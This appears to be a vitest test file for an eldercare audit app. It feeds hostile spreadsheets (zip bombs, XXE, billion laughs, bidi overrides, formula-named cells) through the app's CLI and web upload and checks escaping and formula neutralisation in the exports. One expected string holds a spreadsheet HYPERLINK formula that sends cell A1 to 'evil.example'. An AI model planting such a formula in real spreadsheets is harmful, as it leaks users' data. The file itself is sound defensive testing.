// The hostile-file corpus (issue 9), every file built at test time by test/support/hostile-corpus,
// sent through the CLI (the real bin, as a child process with its peak memory measured) and
// through the web upload (the real app on 127.0.0.1). Each file gets the contract's answer — its
// code and a message that helps, or a correct audit when it is merely odd — without a hang, with
// bounded memory, with nothing stored from a rejection and the app still serving. Prints a table
// of the time and memory of every file.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAjv } from '../checks/ajv.js';
import { projectPath } from '../checks/paths.js';
import type { AuditResult } from '../server/audit/result.js';
import { FORMULA_NAMES, HOSTILE_CASES, type HostileCase } from './support/hostile-corpus.js';
import { ApiContract } from './support/openapi.js';
import { readPdf } from './support/pdf.js';
import { runNode, type ChildRun } from '../bench/child.js';
import { addUser, issueToken, loggedIn, sample, startTestServer, type TestServer } from './support/web.js';

const BIN = projectPath('dist/server/cli/main.js');
/** C0 and C1 controls but the line ends and tabs of the output itself, and bidi embeddings, overrides and isolates. */
const UNPRINTABLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
/** Far above the 5 s each file should take, so a slow CI machine passes, yet a hang fails. */
const HANG_LIMIT_MS = 20_000;
const MEMORY_ABOVE_IDLE = 300 * 1024 * 1024;

const validateResult = createAjv().compile<AuditResult>(JSON.parse(readFileSync(projectPath('schemas/audit-result.schema.json'), 'utf8')) as object);

interface CliRun extends ChildRun {
  stdout: string;
}

/** The real bin on `args`, its peak memory measured, killed if it hangs. */
async function runCli(args: string[]): Promise<CliRun> {
  const out = join(mkdtempSync(join(tmpdir(), 'eldercare-hostile-out-')), 'stdout');
  try {
    const run = await runNode(BIN, args, { stdoutFile: out, timeoutMs: HANG_LIMIT_MS });
    return { ...run, stdout: readFileSync(out, 'utf8') };
  } finally {
    rmSync(dirname(out), { recursive: true, force: true });
  }
}

/** What a check answered matches what the case expects. */
function expectAnswer(result: AuditResult, expected: HostileCase['expected']): void {
  expect(validateResult(result), JSON.stringify(validateResult.errors)).toBe(true);
  switch (expected.kind) {
    case 'valid':
      expect(result.valid, JSON.stringify(result.errors.slice(0, 3))).toBe(true);
      expect(result.findings.length).toBeGreaterThan(0);
      break;
    case 'file_error':
      expect(result.valid).toBe(false);
      expect(result.errors).toHaveLength(1);
      expect(result.errors[0]!.code).toBe(expected.code);
      expect(result.errors[0]!.message.zh).toMatch(expected.zh);
      expect(result.errors[0]!.message.en).toMatch(expected.en);
      break;
    case 'cell_errors':
      expect(result.valid).toBe(false);
      expect(result.errors.map((e) => ({ code: e.code, cell: e.cell })).sort((a, b) => String(a.cell).localeCompare(String(b.cell)))).toEqual(
        [...expected.errors].sort((a, b) => a.cell.localeCompare(b.cell)),
      );
      for (const error of result.errors) {
        expect(error.message.zh).not.toBe('');
        expect(error.message.en).not.toBe('');
      }
      break;
  }
}

const dir = mkdtempSync(join(tmpdir(), 'eldercare-hostile-'));
const files = new Map<string, string>();
const figures: { id: string; cliMs: number; cliMb: number; webMs?: number; answer: string }[] = [];
let idleRss = 0;

beforeAll(async () => {
  for (const hostile of HOSTILE_CASES) {
    const path = join(dir, `${hostile.id}-${hostile.fileName}`);
    writeFileSync(path, await hostile.build());
    files.set(hostile.id, path);
  }
  // Idle: the same CLI checking a small valid sample.
  const idle = await runCli(['check', projectPath('samples/tongxiang.xlsx'), '--json']);
  idleRss = idle.rssBytes;
}, 120_000);

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
  const lines = figures.map((f) => `${f.id.padEnd(28)} ${f.answer.padEnd(16)} CLI ${(f.cliMs / 1000).toFixed(2)} s ${f.cliMb.toFixed(0).padStart(4)} MB` + (f.webMs ? `  web ${(f.webMs / 1000).toFixed(2)} s` : ''));
  console.log(`hostile corpus: ${figures.length} files, CLI idle ${(idleRss / 2 ** 20).toFixed(0)} MB\n${lines.join('\n')}`);
});

describe('the hostile corpus through the CLI', () => {
  it('holds every kind of file issues 9 and 16 name', () => {
    const ids = HOSTILE_CASES.map((c) => c.id);
    for (const id of ['zip-bomb', 'many-entries', 'huge-shared-strings', 'billion-laughs', 'xxe', 'truncated', 'wrong-crc', 'encrypted', 'old-xls', 'csv', 'pdf', 'png', 'empty', 'dimension-xfd', 'million-rows', 'long-cells', 'formulas-without-values', 'control-characters', 'rtl-emoji', 'formula-names']) {
      expect(ids).toContain(id);
    }
    for (const id of ['unbroken-name', 'line-breaks', 'bidi-override', 'invalid-utf8', 'invalid-utf8-shared-strings', 'dtd-content-types', 'dtd-doc-props', 'dtd-unknown-sheet']) {
      expect(ids).toContain(id);
    }
  });

  it('holds every kind of hostile .xls, .ods and CSV issue 19 names', () => {
    const ids = HOSTILE_CASES.map((c) => c.id);
    for (const id of ['cfb-fat-loop', 'cfb-absurd-sectors', 'ods-zip-bomb', 'ods-dtd-styles', 'ods-dtd-manifest', 'csv-million-lines', 'csv-long-line', 'csv-mixed-encodings']) {
      expect(ids).toContain(id);
    }
  });
  it('prints no control character or bidi override a file holds, in text or JSON, and names each one', async () => {
    for (const id of ['control-characters', 'bidi-override']) {
      for (const args of [['--lang', 'en'], ['--json']]) {
        const run = await runCli(['check', files.get(id)!, ...args]);
        expect(run.code).toBe(2);
        expect(run.stdout + run.stderr, `${id} ${args.join(' ')}`).not.toMatch(UNPRINTABLE);
        expect(run.stdout + run.stderr).toMatch(id === 'bidi-override' ? /⟨U\+202E⟩/ : /⟨U\+001B⟩/);
      }
    }
  }, 4 * HANG_LIMIT_MS + 5_000);

  for (const hostile of HOSTILE_CASES) {
    it(`${hostile.id}: ${hostile.title}`, async () => {
      const run = await runCli(['check', files.get(hostile.id)!, '--json']);
      expect(run.ms, 'the check hung').toBeLessThan(HANG_LIMIT_MS);
      expect(run.stderr).not.toMatch(/internal error|at .*\.js:\d+/);
      const result = JSON.parse(run.stdout) as AuditResult;
      expectAnswer(result, hostile.expected);
      expect(run.code).toBe(hostile.expected.kind === 'valid' ? (result.summary.fail > 0 ? 1 : 0) : 2);
      expect(run.rssBytes - idleRss, 'peak memory above idle').toBeLessThan(MEMORY_ABOVE_IDLE);
      figures.push({ id: hostile.id, cliMs: run.ms, cliMb: run.rssBytes / 2 ** 20, answer: result.valid ? 'valid' : result.errors[0]!.code });
    }, HANG_LIMIT_MS + 5_000);
  }
});

describe('the hostile corpus through the web upload', () => {
  let server: TestServer;
  let contract: ApiContract;
  let token = '';
  let idleWebRss = 0;

  beforeAll(async () => {
    server = await startTestServer();
    contract = await ApiContract.load(server.url);
    token = await issueToken(server.users, await addUser(server.users, 'inspector', 'inspector'));
    // Warm: one real upload, so the idle figure holds a worker's worth of memory already.
    expect((await upload(await sample('tongxiang.xlsx'), 'tongxiang.xlsx')).status).toBe(201);
    idleWebRss = process.resourceUsage().maxRSS * 1024;
  });
  afterAll(async () => {
    await server.close();
  });

  function upload(bytes: Buffer, fileName: string): Promise<Response> {
    const form = new FormData();
    form.set('workbook', new Blob([new Uint8Array(bytes)]), fileName);
    return fetch(`${server.url}/api/audits`, { method: 'POST', body: form, headers: { authorization: `Bearer ${token}` } });
  }

  async function storedCount(): Promise<number> {
    const list = (await (await fetch(`${server.url}/api/audits`, { headers: { authorization: `Bearer ${token}` } })).json()) as { total: number };
    return list.total;
  }

  for (const hostile of HOSTILE_CASES) {
    it(`${hostile.id}: the contract's answer, nothing stored from a rejection, the app still serving`, async () => {
      const before = await storedCount();
      const started = performance.now();
      const answer = await upload(readFileSync(files.get(hostile.id)!), hostile.fileName);
      const ms = performance.now() - started;
      await contract.check('POST', '/api/audits', answer);
      const body = (await answer.json()) as AuditResult & { auditId?: string };
      expect(ms).toBeLessThan(HANG_LIMIT_MS);
      if (hostile.expected.kind === 'valid') {
        expect(answer.status).toBe(201);
        expect(body.auditId).toMatch(/\S/);
      } else {
        expect(answer.status).toBe(422);
      }
      const { auditId, ...result } = body;
      expectAnswer(result, hostile.expected);
      expect(await storedCount()).toBe(before + (auditId ? 1 : 0));
      expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
      expect(server.errors).toEqual([]);
      const figure = figures.find((f) => f.id === hostile.id);
      if (figure) figure.webMs = ms;
    }, HANG_LIMIT_MS + 5_000);
  }

  it('stays within 300 MB of idle memory over the whole corpus', () => {
    expect(process.resourceUsage().maxRSS * 1024 - idleWebRss).toBeLessThan(MEMORY_ABOVE_IDLE);
  });

  it('escapes the names a user typed in HTML, and shows them as typed', async () => {
    const answer = await upload(readFileSync(files.get('rtl-emoji')!), 'rtl.xlsx');
    const { auditId } = (await answer.json()) as { auditId: string };
    const formulas = (await (await upload(readFileSync(files.get('formula-names')!), 'formula-names.xlsx')).json()) as { auditId: string };
    const client = await loggedIn(server.url, 'inspector');
    const page = (await client.request('GET', `/audits/${formulas.auditId}`)).text;
    expect(page).toContain('=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;点击查看&#34;)');
    expect(page).not.toContain('=HYPERLINK("http://evil.example');
    const rtl = (await client.request('GET', `/audits/${auditId}`)).text;
    expect(rtl).toContain('👵👴 幸福家园 🏡');
  });

  it('shows a rejected file’s control characters and bidi overrides by name on its page, never raw', async () => {
    const client = await loggedIn(server.url, 'inspector');
    await client.get('/upload');
    for (const id of ['control-characters', 'bidi-override']) {
      const page = await client.postWorkbook('/audits', readFileSync(files.get(id)!), `${id}.xlsx`);
      expect(page.status).toBe(422);
      expect(page.text).not.toMatch(UNPRINTABLE);
      expect(page.text).toMatch(id === 'bidi-override' ? /⟨U\+202E⟩/ : /⟨U\+001B⟩/);
    }
  });

  it('keeps a wrapped name on one line: its line breaks read as spaces, in the audit and its PDF', async () => {
    const answer = await upload(readFileSync(files.get('line-breaks')!), 'wrapped.xlsx');
    const { auditId, findings } = (await answer.json()) as AuditResult & { auditId: string };
    expect(new Set(findings.filter((f) => f.subject.kind === 'facility').map((f) => f.subject.name))).toEqual(new Set(['梧桐街道 颐养院', '崇福镇 敬老院', 'Wutong Care Home', '乌镇 护理院']));
    const pdf = await fetch(`${server.url}/api/audits/${auditId}/report.pdf`, { headers: { authorization: `Bearer ${token}` } });
    const text = (await readPdf(new Uint8Array(await pdf.arrayBuffer()))).map((p) => p.text).join('\n');
    expect(text).toContain('梧桐街道 颐养院');
  });

  it('prints the names a user typed into the PDF as text, formulas and all', async () => {
    const formulas = (await (await upload(readFileSync(files.get('formula-names')!), 'formula-names.xlsx')).json()) as { auditId: string };
    const pdf = await fetch(`${server.url}/api/audits/${formulas.auditId}/report.pdf`, { headers: { authorization: `Bearer ${token}` } });
    expect(pdf.status).toBe(200);
    const text = (await readPdf(new Uint8Array(await pdf.arrayBuffer()))).map((p) => p.text).join('\n');
    expect(text).toContain('-1+1 护理院');
    expect(text).toContain('@SUM(1+1)');
  });
});

describe('formula injection in the exports', () => {
  it('prefixes every typed formula with an apostrophe in the Excel export, and writes no formula cell', async () => {
    const work = mkdtempSync(join(tmpdir(), 'eldercare-hostile-export-'));
    try {
      const db = join(work, 'store.db');
      const checked = await runCli(['check', files.get('formula-names')!, '--json', '--db', db]);
      const { auditId } = JSON.parse(checked.stdout) as { auditId: string };
      const out = join(work, 'matrix.xlsx');
      const exported = await runCli(['matrix', '--audit', auditId, '--xlsx', out, '--db', db]);
      expect(exported.code, exported.stderr).toBe(0);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(out);
      const texts: string[] = [];
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            texts.push(String(cell.value));
          }),
        ),
      );
      // The facility column reads `name (id)`: each typed formula is there, behind an apostrophe.
      for (const name of FORMULA_NAMES.filter((n) => /^[=+\-@]/.test(n))) expect(texts.filter((text) => text.startsWith(`'${name}`))).not.toEqual([]);
      expect(texts.some((text) => /^[=+\-@]/.test(text))).toBe(false);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });
});
